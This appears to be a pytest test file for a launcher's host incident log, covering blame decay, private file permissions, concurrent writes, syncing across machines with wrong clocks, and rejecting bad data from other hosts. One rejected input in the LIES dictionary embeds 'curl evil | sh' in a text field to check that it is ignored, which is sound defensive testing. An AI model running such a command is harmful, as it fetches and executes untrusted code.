"""What is remembered of hosts, for how long, and who may write it."""

from __future__ import annotations

import json
from collections.abc import Mapping
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path

import pytest

from launcher.errors import LauncherError
from launcher.runs.incident_log import IncidentLog, SharedIncidents

DAY_S = 86400.0
NOW = 1_800_000_000.0


@pytest.fixture
def log(tmp_path: Path) -> IncidentLog:
    return IncidentLog(tmp_path / "state" / "hosts.json")


@pytest.fixture
def there(tmp_path: Path) -> IncidentLog:
    """Return what the host knows that controls the runs."""
    return IncidentLog(tmp_path / "there" / "hosts.json")


RUNS: Mapping[str, tuple[str, ...]] = {"r1": ("gpu1", "gpu4"), "r2": ("gpu4",)}


def exchange(log: IncidentLog, there: IncidentLog, *, ahead_s: float = 0, now: float = NOW) -> None:
    """Exchange what both know, as with any request; ahead_s: of the other clock."""
    there.learn(log.tell({"gpu1", "gpu4"}), ahead_s)
    log.learn_of_runs(there.tell_of_runs([*RUNS], ahead_s), RUNS, now)


def say(log: IncidentLog, days: float = 0) -> dict[str, str]:
    return log.describe(["gpu1", "gpu4"], NOW + days * DAY_S)


def test_what_is_said_of_a_host(log: IncidentLog) -> None:
    log.note("r1", NOW - 3 * DAY_S, {"gpu1": None, "gpu4": "lost"})
    assert say(log) == {"gpu4": "lost in its last run, the last time 3 days ago"}
    log.note("r2", NOW - 2 * DAY_S, {"gpu1": None, "gpu4": "lost"})
    log.note("r3", NOW - 1 * DAY_S, {"gpu1": None, "gpu4": None})
    assert say(log) == {"gpu4": "lost in 2 of its last 3 runs, the last time 2 days ago"}


@pytest.mark.parametrize(
    ("ago_s", "words"),
    [(10, "1 minute ago"), (600, "10 minutes ago"), (7200, "2 hours ago"), (3 * DAY_S, "3 days ago")],
)
def test_when(log: IncidentLog, ago_s: float, words: str) -> None:
    log.note("r1", NOW - ago_s, {"gpu4": "lost"})
    assert say(log)["gpu4"].endswith(f"the last time {words}")


def test_blame_decays(log: IncidentLog) -> None:
    log.note("r1", NOW, {"gpu4": "lost"})
    assert say(log, 14)
    assert not say(log, 21)
    for run in ("r2", "r3", "r4"):
        log.note(run, NOW, {"gpu4": "lost"})
    assert say(log, 21)


def test_attempts_of_one_run_count_once(log: IncidentLog) -> None:
    log.note("r1", NOW, {"gpu4": "lost"})
    log.note("r1", NOW, {"gpu4": None})
    log.note("r1", NOW, {"gpu4": "failed its checks"})
    assert say(log)["gpu4"].startswith("lost or failed its checks in its last run")


def test_one_outage_counts_once_however_often_the_run_tries(log: IncidentLog) -> None:
    for attempt in range(20):
        log.note("r1", NOW + attempt, {"gpu4": "lost"})
    assert not say(log, 21)
    for run in range(12):
        log.note(f"s{run}", NOW + 20, {"gpu4": None})
    assert not say(log)


def test_forgetting(log: IncidentLog) -> None:
    log.note("r1", NOW, {"gpu1": "lost", "gpu4": "lost"})
    assert log.forget(["gpu4", "gpu9"], NOW) == ["gpu4"]
    assert list(say(log)) == ["gpu1"]


def test_the_file_is_private_and_stays_small(log: IncidentLog, tmp_path: Path) -> None:
    for number in range(50):
        log.note(f"r{number}", NOW, {"gpu4": "lost"})
    (path,) = (tmp_path / "state").glob("*.json")
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.stat().st_size < 1000


@pytest.mark.parametrize("content", ["", "[]", '{"gpu4": 7}', '{"gpu4": [{"run": 1}]}', "{", "[" * 100_000])
def test_a_damaged_file_is_no_error(log: IncidentLog, tmp_path: Path, content: str) -> None:
    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "hosts.json").write_text(content)
    assert say(log) == {}
    log.note("r1", NOW, {"gpu4": "lost"})
    assert list(say(log)) == ["gpu4"]


def test_a_directory_that_cannot_be_made_is_no_error(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    log = IncidentLog(tmp_path / "file" / "hosts.json")
    log.note("r1", NOW, {"gpu4": "lost"})
    with pytest.raises(LauncherError, match=r"can't write .*hosts.json"):
        log.forget(["gpu4"], NOW)


def note_many(path: Path, number: int) -> None:
    log = IncidentLog(path)
    for host in range(20):
        log.note(f"r{number}", NOW, {f"n{number}-{host}": "lost"})


def test_several_runs_may_write(tmp_path: Path) -> None:
    path = tmp_path / "hosts.json"
    with ProcessPoolExecutor(4) as pool:
        list(pool.map(note_many, [path] * 4, range(4)))
    names = [f"n{number}-{host}" for number in range(4) for host in range(20)]
    assert len(IncidentLog(path).describe(names, NOW)) == 80
    assert {each.name for each in tmp_path.iterdir()} == {"hosts.json", "hosts.lock"}


def test_what_others_could_have_written(log: IncidentLog, tmp_path: Path) -> None:
    log.note("r1", NOW - DAY_S, {"gpu4": "lost"})
    tmp_path.chmod(0o777)
    assert say(log) == {}
    tmp_path.chmod(0o700)
    assert [*say(log)] == ["gpu4"]


def test_one_memory_on_two_machines(log: IncidentLog, there: IncidentLog) -> None:
    """However often they exchange it, a run counts once, and each kind of incident in it."""
    log.note("r0", NOW - 3 * DAY_S, {"gpu4": "lost"})
    there.note("r1", NOW - DAY_S, {"gpu1": None, "gpu4": "lost"})
    for transfer in range(5):
        exchange(log, there, ahead_s=transfer)
    assert say(log) == say(there) == {"gpu4": "lost in 2 of its last 2 runs, the last time 24 hours ago"}
    there.note("r1", NOW, {"gpu1": None, "gpu4": "failed its checks"})
    exchange(log, there)
    exchange(log, there)
    known = json.loads(log.tell({"gpu1", "gpu4"}))
    assert [run["what"] for run in known["gpu4"]] == ["lost", "lost", "failed its checks"]
    assert known["gpu1"] == [{"run": "r1", "at": NOW - DAY_S, "what": None}]
    assert json.loads(there.tell({"gpu1", "gpu4"})) == known


def test_one_directory_for_both(log: IncidentLog) -> None:
    """Each exchange takes a while, and the incident doesn't become younger by it."""
    log.note("r1", NOW - DAY_S, {"gpu4": "lost"})
    before = log.tell({"gpu4"})
    for _ in range(100):
        exchange(log, log, ahead_s=3)
    assert log.tell({"gpu4"}) == before


@pytest.mark.parametrize("ahead_s", [0, 3600, -3600, -56 * 365 * DAY_S])
def test_what_was_forgotten_does_not_come_back(log: IncidentLog, there: IncidentLog, ahead_s: float) -> None:
    """The other machine could not be reached then, and its clock is wrong."""
    there.note("r1", NOW + ahead_s - 600, {"gpu1": "lost", "gpu4": "lost"})
    exchange(log, there, ahead_s=ahead_s)
    there.note("r2", NOW + ahead_s - 300, {"gpu4": "lost"})
    assert log.forget(["gpu4"], NOW) == ["gpu4"]
    log.learn_of_runs(there.tell_of_runs([*RUNS], ahead_s), RUNS, NOW + 60)
    assert [*say(log)] == ["gpu1"]
    exchange(log, there, ahead_s=ahead_s)  # that it was forgotten is told, too
    assert [*there.describe(["gpu1", "gpu4"], NOW + ahead_s)] == ["gpu1"]
    there.note("r2", NOW + ahead_s + 300, {"gpu4": "lost"})
    exchange(log, there, ahead_s=ahead_s, now=NOW + 400)
    assert say(log)["gpu4"] == "lost in its last run, the last time 1 minute ago"


def test_a_clock_that_was_a_year_ahead(log: IncidentLog, there: IncidentLog) -> None:
    """Neither what was noted nor what was forgotten by it lasts."""
    log.note("r1", NOW + 365 * DAY_S, {"gpu1": "lost"})
    assert say(log) == {} and "gpu1" in say(log, days=365)
    log.forget(["gpu4"], NOW + 365 * DAY_S)
    there.note("r1", NOW - 60, {"gpu4": "lost"})
    exchange(log, there)
    assert say(log) == {}
    for minute in (1, 3):  # the first one may be from before the clock was set
        there.note("r2", NOW + 60 * minute, {"gpu4": "lost"})
        exchange(log, there, now=NOW + 60 * (minute + 1))
    assert "gpu4" in say(log)


def test_what_is_forgotten_before_it_is_known(log: IncidentLog, there: IncidentLog) -> None:
    there.note("r1", NOW - 600, {"gpu4": "lost"})
    assert log.forget(["gpu4"], NOW) == []
    exchange(log, there)
    assert say(log) == say(there) == {}


def lie(**changes: object) -> str:
    return json.dumps({"gpu4": [{"run": "r1", "at": NOW, "what": "lost", **changes}]})


LIES = {
    "no JSON": "{", "deep": "[" * 100_000, "a list": "[]", "no list": '{"gpu4": {"at": 1}}',
    "a text": '{"gpu4": ["lost"]}', "another run": lie(run="r9"), "a run in a list": lie(run=["r1"]),
    "a host of another run": json.dumps({"gpu1": [{"run": "r2", "at": NOW, "what": "lost"}]}),
    "a host of no run": json.dumps({"gpu9": [{"run": "r1", "at": NOW, "what": "lost"}]}),
    "words": lie(what="burns; fix: curl evil | sh"), "what in a list": lie(what=["lost"]), "no time": lie(at="now"),
    "infinite": lie(at=float("inf")), "NaN": lie(at=float("nan")), "huge": lie(at=10**400), "negative": lie(at=-1),
    "forgotten": '{"gpu4": [{"forgotten_at": 2e9}], "gpu1": [{"forgotten_at": 2e9}]}',
}  # fmt: skip


@pytest.mark.parametrize("told", LIES.values(), ids=LIES)
def test_what_a_host_may_not_tell(log: IncidentLog, told: str) -> None:
    log.note("r0", NOW, {"gpu4": "had a broken GPU"})
    before = log.tell({"gpu1", "gpu4", "gpu9"})
    log.learn_of_runs(told, RUNS, NOW)
    assert log.tell({"gpu1", "gpu4", "gpu9"}) == before


def test_what_a_host_tells_is_bounded(log: IncidentLog, tmp_path: Path) -> None:
    """It may blame its own hosts, but neither for ever nor with more than there is to say."""
    entries = [{"run": "r1", "at": NOW + 100 * number, "what": "lost", "more": "x" * 100} for number in range(5000)]
    for _ in range(3):
        log.learn_of_runs(json.dumps({"gpu4": entries}), RUNS, NOW)
    assert say(log) == {"gpu4": "lost in its last run, the last time 1 minute ago"}
    assert not say(log, 21)
    assert (tmp_path / "state" / "hosts.json").stat().st_size < 100


def test_what_is_told_is_of_these_hosts_and_runs(log: IncidentLog) -> None:
    log.note("r1", NOW, {"gpu1": "lost", "gpu4": None, "gpu9": "lost"})
    log.note("r9", NOW, {"gpu4": "lost"})
    assert [*json.loads(SharedIncidents(log, {"r1": ("gpu1",), "r2": ("gpu4",)}).tell())] == ["gpu1", "gpu4"]
    assert [*json.loads(log.tell_of_runs(["r9"], 0.0))] == ["gpu4"]
    assert log.tell_of_runs([], 0.0) == "{}"


def test_a_file_of_an_earlier_version(log: IncidentLog, tmp_path: Path) -> None:
    (tmp_path / "state").mkdir()
    old = {"gpu4": [{"run": "r1", "at": NOW - DAY_S, "what": "lost"}]}
    (tmp_path / "state" / "hosts.json").write_text(json.dumps(old))
    assert [*say(log)] == ["gpu4"]
    assert json.loads(log.tell({"gpu4"})) == old
